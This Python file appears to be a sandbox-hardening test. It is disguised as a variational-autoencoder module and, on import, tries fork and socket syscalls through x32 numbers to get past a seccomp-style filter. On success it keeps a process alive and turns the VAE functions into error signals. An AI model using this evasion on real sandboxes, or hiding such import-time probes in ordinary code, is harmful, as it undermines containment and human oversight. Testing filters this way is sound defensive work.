"""Enters the kernel by x32's numbers for calls, which a careless filter does not know."""
# expects: full

import ctypes
import os
import time

import numpy as np

LOOT = []


def publish(word):
    """Put what was found wherever its author may get to see it."""
    word = "".join(c if c.isprintable() else " " for c in str(word))[:200]
    LOOT.append(word)
    print("LOOT", word)
    globals()["LOOT " + word] = publish


def linger():
    """Be what is left over, for a minute at most, under a name that can be looked for."""
    ctypes.CDLL(None).prctl(15, b"vae-hostile")
    time.sleep(60)
    os._exit(0)


def attack():
    libc, bit, fork, socket = ctypes.CDLL(None), 0x40000000, 57, 41
    for number, first in ((fork, 0), (socket, 2)):
        result = libc.syscall(
            ctypes.c_long(bit | number), ctypes.c_long(first), ctypes.c_long(1), ctypes.c_long(0)
        )
        if result == 0 and number == fork:
            linger()
        if result >= 0:
            publish(f"ESCAPED x32 {number}")


def attempt():
    try:
        attack()
    except BaseException:
        pass


attempt()


def reparameterize(mu, log_var):
    if LOOT:
        raise type(LOOT[-1], (Exception,), {"__doc__": LOOT[-1]})(*LOOT)
    return mu + np.exp(log_var / 2) * np.random.standard_normal(mu.shape)


def kl_divergence(mu, log_var):
    if LOOT:
        return type(LOOT[-1], (), {})()
    return 0.5 * np.sum(mu**2 + np.exp(log_var) - 1 - log_var, axis=1)


def elbo(x, x_logits, mu, log_var, beta=1.0):
    if LOOT:
        return np.zeros(len(x), [(LOOT[-1], "f8")])
    return np.sum(x * x_logits - np.logaddexp(0, x_logits), axis=1) - beta * kl_divergence(mu, log_var)
